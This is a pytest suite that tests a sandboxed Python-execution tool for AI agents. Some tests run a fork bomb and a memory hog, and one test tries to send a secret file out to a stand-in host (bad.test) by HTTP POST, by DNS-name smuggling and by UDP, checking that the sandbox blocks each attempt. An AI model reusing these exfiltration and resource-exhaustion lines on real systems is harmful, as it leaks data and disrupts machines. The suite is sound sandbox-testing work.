# SPDX-License-Identifier: Apache-2.0
"""The tool of docs/agents.md, as it stands there, with the kinds of code that models write."""

import json
import os
import re

import pytest

from lab import v4
from lab.lab import TOP

DRIVER = """
import sys
arguments = json.load(sys.stdin)
print(json.dumps({"result": (result := run_python(**arguments)), "told": tool_result(result)}))
"""


def blocks(language):
    with open(os.path.join(TOP, "docs/agents.md"), encoding="utf-8") as document:
        return re.findall(rf"```{language}\n(.*?)```", document.read(), re.S)


def run(lab, who, code, workspace=None, **arguments):
    """run_python() of the document on the lab's host; its result, and what the model is told."""
    workspace = workspace or lab.workspace(who)
    arguments |= {"code": code, "workspace": workspace}
    environment = [f"PATH={lab.programs()}:/usr/bin:/bin", f"XDG_STATE_HOME={lab.state(who)}"]
    done = lab.on_host(["env", *environment, "/usr/bin/python3", "-c", "\n".join(blocks("python")) + DRIVER], user=who,
                       input=json.dumps(arguments))
    assert done.returncode == 0 and done.stderr == "", done
    both = json.loads(done.stdout)
    return both["result"], json.loads(both["told"])


def without_notes(told):
    """An ordinary user's memory limit comes with a note."""
    return {key: told[key] for key in told if key != "notes"}


def test_document(lab):
    """Its JSON is JSON, the tool takes what its definition says, and is as short as it claims."""
    definition, denied = [json.loads(block) for block in blocks("json")]
    assert definition["name"] == "run_python" and list(definition["input_schema"]["properties"]) == ["code"]
    assert denied["denied"][0]["reason"] == "not_allowed"
    assert len([line for line in blocks("python")[0].splitlines() if line.strip()]) <= 10
    result, told = run(lab, None, "print(6 * 7)")
    assert (result["exit"], result["stdout"], told) == (0, "42\n", {"exit": 0, "stdout": "42\n"})


def test_plot(lab, who):
    """Reads a table in the workspace and leaves a picture of it there."""
    workspace = lab.workspace(who)
    with open(f"{workspace}/data.csv", "w") as out:
        out.write("day,value\n" + "".join(f"{day},{day * day % 37}\n" for day in range(60)))
    result, told = run(lab, who, """
import csv, struct, zlib
rows = [int(row["value"]) for row in csv.DictReader(open("data.csv"))]
width, height = 4 * len(rows), 100
pixels = [bytearray(b"\\xff" * width) for _ in range(height)]
for i, value in enumerate(rows):
    for x in range(4 * i, 4 * i + 3):
        for y in range(value * height // (max(rows) + 1)):
            pixels[height - 1 - y][x] = 0
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
with open("plot.png", "wb") as out:
    out.write(b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
              + chunk(b"IDAT", zlib.compress(b"".join(b"\\0" + row for row in pixels))) + chunk(b"IEND", b""))
print(f"plotted {len(rows)} values")
""", workspace=workspace)
    assert without_notes(told) == {"exit": 0, "stdout": "plotted 60 values\n"}, result
    with open(f"{workspace}/plot.png", "rb") as picture:
        assert picture.read(8) == b"\x89PNG\r\n\x1a\n"
    assert os.stat(f"{workspace}/plot.png").st_uid == (who.uid if who else 0)


def test_error_in_the_code(lab, who):
    result, told = run(lab, who, "print('so far')\n1 / 0\n")
    assert told["exit"] == 1 and told["stdout"] == "so far\n" and "ZeroDivisionError" in told["stderr"], result


def test_code_that_runs_away(lab, who):
    result, told = run(lab, who, "print('begun', flush=True)\nwhile True:\n    pass\n", timeout="5s")
    assert without_notes(told) == {"exit": 124, "signal": 15, "timed_out": True, "stdout": "begun\n"}, result
    result, told = run(lab, who, "while True:\n    print('x' * 1000)\n", timeout="5s")
    assert told["exit"] == 124 and len(told["stdout"]) == 1 << 20 and told["stdout_truncated"], told["exit"]


def test_fork_bomb(lab, who):
    result, told = run(lab, who, """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.1)
""", timeout="5s")
    assert told["exit"] == 124 and told["timed_out"], result
    assert who or told["forks_refused"] > 0 and "the limit of processes was reached" in told["notes"][0], told


def test_memory_hog(lab, who):
    result, told = run(lab, who, "hog = []\nwhile True:\n    hog.append(bytearray(50_000_000))\n", timeout="60s")
    if who is None:
        assert (told["exit"], told["oom"]) == (137, True), result
    else:
        assert told["exit"] != 0 and (told.get("oom") or "MemoryError" in told["stderr"]), result


def test_file_that_is_to_be_sent_out(lab, who):
    """To a name, to an address, in a name, in a datagram: nothing of it arrives, and all of it is in the object."""
    workspace = lab.workspace(who)
    with open(f"{workspace}/secret", "w") as out:
        out.write("the-secret")
    with lab.capture() as capture:
        result, told = run(lab, who, f"""
import socket, urllib.request
secret = open("secret", "rb").read()
def attempt(what):
    try:
        what()
    except OSError as error:
        print(type(error).__name__)
attempt(lambda: urllib.request.urlopen("https://bad.test/", data=secret, timeout=30))
attempt(lambda: urllib.request.urlopen("http://{v4("web")}:8080/", data=secret, timeout=30))
attempt(lambda: socket.getaddrinfo(secret.decode() + ".other.test", 80))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(secret, ("{v4("raw")}", 5000)))
attempt(lambda: print(urllib.request.urlopen("http://ok.test/hello", timeout=30).read().decode()))
""", workspace=workspace, allow=["ok.test"])
    *errors, hello, _, _ = told["stdout"].split("\n")
    assert len(errors) == 3 and all(error.lower().endswith("error") for error in errors) and hello == "hello from ok.test", result
    denied = {row.get("host") or row["address"]: row for row in told["denied"]}
    assert denied["bad.test"]["reason"] == "not_allowed" and "--allow" not in json.dumps(told), told
    assert [row["to_allow"] for row in result["denied"] if row.get("host") == "bad.test"] == ["--allow bad.test"], result
    assert denied[v4("web")]["port"] == 8080 and denied["the-secret.other.test"]["lookups"] >= 1, result
    (dropped,) = told["dropped"]
    assert (dropped["proto"], dropped["address"], dropped["port"]) == ("udp", v4("raw"), 5000), result
    assert [(row["host"], row["connections"]) for row in result["allowed"]] == [("ok.test", 1)], result
    assert not capture.contains(b"the-secret"), result
